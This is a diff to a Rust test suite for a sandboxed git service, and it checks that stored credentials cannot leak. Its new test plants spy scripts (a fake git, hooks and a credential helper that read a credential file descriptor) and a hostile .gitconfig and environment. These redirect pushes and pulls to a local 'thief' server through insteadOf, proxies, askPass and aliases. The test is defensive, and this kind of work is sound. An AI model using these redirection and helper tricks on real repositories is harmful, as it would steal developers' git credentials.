@@ -100,7 +100,7 @@ async fn a_password_reaches_no_file_no_argument_no_variable_no_log_and_no_error(
     .await;
     server.create("a.git", 1);
     let toolbox = Toolbox::start();
-    // The helper ends before the server is asked again, so it looks for itself. What it looks for is in no argument of its own.
+    // A program that the helper would run if it were found first.
     let spy = tempfile::tempdir().unwrap();
     let (pattern, report) = (spy.path().join("pattern"), spy.path().join("report"));
     std::fs::write(&pattern, "s3cret\n").unwrap();
@@ -142,8 +142,7 @@ async fn a_password_reaches_no_file_no_argument_no_variable_no_log_and_no_error(
     let (found, gits) = std::mem::take(&mut *seen.lock().unwrap());
     assert!(gits > 0, "git was not looked at");
     assert_eq!(found, Vec::<String>::new());
-    let report = std::fs::read_to_string(report).unwrap();
-    assert!(!report.is_empty() && report.lines().all(|line| line == "looked"), "{report}");
+    assert!(!report.exists(), "a program of the sandbox's ran where the credentials are");
     let logs = logs.0.lock().unwrap().clone();
     assert!(!logs.is_empty(), "nothing was logged");
     assert!(!holds_the_password(&logs));
@@ -215,4 +214,89 @@ async fn stored_credentials_are_for_their_host_and_their_owner() {
         assert_eq!(toolbox.failure(toolbox.posting("/git/credentials", &body)).await.0, 400, "{body}");
     }
     assert_eq!(toolbox.failure(toolbox.request(Method::GET, "/git/credentials")).await.0, 404);
+}
+
+/// Makes a program that notes that it ran, with what it finds in the descriptor of the credentials, and goes on as `then`.
+fn spying(path: &Path, report: &Path, then: &str) {
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    let report = report.display();
+    let script = format!(
+        "#!/bin/sh\necho \"$0\" >> {report}\nif test -e /proc/self/fd/9; then cat <&9 >> {report}; fi\n{then}\n"
+    );
+    std::fs::write(path, script).unwrap();
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+#[tokio::test]
+async fn nothing_the_sandbox_configured_gets_the_credentials() {
+    let (server, thief) = (GitServer::start().await, GitServer::start().await);
+    server.create("a.git", 1);
+    thief.create("a.git", 1);
+    let toolbox = Toolbox::start();
+    let home = toolbox.home.path();
+    let report = home.join("report");
+    spying(&home.join("bin/git"), &report, "exec /usr/bin/git \"$@\"");
+    for hook in ["pre-push", "post-checkout", "post-merge", "reference-transaction"] {
+        spying(&home.join("hooks").join(hook), &report, "");
+    }
+    spying(&home.join("helper"), &report, "cat >> \"$0.got\"");
+    let steals = format!(
+        "[url \"{0}/\"]\n\tinsteadOf = {1}/\n\tpushInsteadOf = {1}/\n[credential]\n\thelper = {2}/helper\n\
+         [core]\n\thooksPath = {2}/hooks\n\tsshCommand = {2}/helper\n\taskPass = {2}/helper\n\
+         [http]\n\tproxy = {0}\n\textraHeader = \"X-Stolen: yes\"\n[alias]\n\tpush = !{2}/helper\n",
+        thief.url("").trim_end_matches('/'),
+        server.url("").trim_end_matches('/'),
+        home.display()
+    );
+    std::fs::write(home.join(".gitconfig"), &steals).unwrap();
+    let thief_address = thief.url("");
+    let environment = json!({"set": {
+        "PATH": format!("{}:{}", home.join("bin").display(), std::env::var("PATH").unwrap()),
+        "GIT_TRACE_CURL": home.join("trace"), "GIT_TRACE_REDACT": "0", "GIT_ASKPASS": home.join("helper"),
+        "http_proxy": thief_address, "ALL_PROXY": thief_address, "GIT_EXEC_PATH": home.join("bin"),
+        "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "http.proxy", "GIT_CONFIG_VALUE_0": thief_address,
+    }});
+    assert_eq!(toolbox.post("/env", environment).await.0, StatusCode::OK);
+
+    let send = async |operation: &str, fields: Value| {
+        let request = toolbox.posting(&format!("/git/{operation}"), &authorised(fields));
+        read(request.send().await.unwrap()).await
+    };
+    // What is not about credentials works with the sandbox's own settings; GIT_EXEC_PATH would break it.
+    toolbox.post("/env", json!({"unset": ["GIT_EXEC_PATH"]})).await;
+    let (status, answer) = send("clone", json!({"url": server.url("a.git"), "path": "mine"})).await;
+    assert_eq!(status, StatusCode::OK, "{answer}");
+    let config = toolbox.path("mine/.git/config");
+    let own = std::fs::read_to_string(&config).unwrap();
+    assert!(own.contains(&server.url("a.git")), "{own}");
+    std::fs::write(&config, format!("{own}{steals}")).unwrap();
+    let commit = json!({"path": "mine", "message": "m", "author": "a", "email": "e", "allow_empty": true});
+    assert_eq!(send("commit", commit).await.0, StatusCode::OK);
+    for operation in ["push", "pull"] {
+        let (status, answer) = send(operation, json!({"path": "mine"})).await;
+        assert_eq!(status, StatusCode::OK, "{operation}: {answer}");
+    }
+    assert_eq!(git(&server.path("a.git"), &["log", "-1", "--format=%s", "main"]), "m");
+
+    // Another address than the one the caller cloned from, written into the repository.
+    std::fs::write(&config, own.replace(&server.url("a.git"), &thief.url("a.git"))).unwrap();
+    for operation in ["push", "pull"] {
+        let (status, answer) = send(operation, json!({"path": "mine"})).await;
+        assert_eq!((status, &answer["code"]), (StatusCode::FORBIDDEN, &json!("FORBIDDEN")), "{answer}");
+        assert!(answer["message"].as_str().unwrap().contains(&thief.address.to_string()), "{answer}");
+    }
+    {
+        let requests = thief.requests.lock().unwrap();
+        assert_eq!((requests.authorised, requests.refused), (0, 0));
+    }
+    // The spies did run, and found nothing.
+    assert!(!std::fs::read_to_string(&report).unwrap().is_empty());
+    assert_eq!(files_with_the_password(home), Vec::<PathBuf>::new());
+    // A caller that means the other address says so.
+    let remote = json!({"path": "mine", "name": "origin", "url": thief.url("a.git"), "overwrite": true});
+    assert_eq!(toolbox.post("/git/remotes", remote).await.0, StatusCode::CREATED);
+    std::fs::remove_file(home.join(".gitconfig")).unwrap();
+    let (status, answer) = send("pull", json!({"path": "mine"})).await;
+    assert_eq!((status, &answer["code"]), (StatusCode::CONFLICT, &json!("GIT_MERGE_CONFLICT")), "{answer}");
+    assert!(thief.requests.lock().unwrap().authorised > 0);
 }
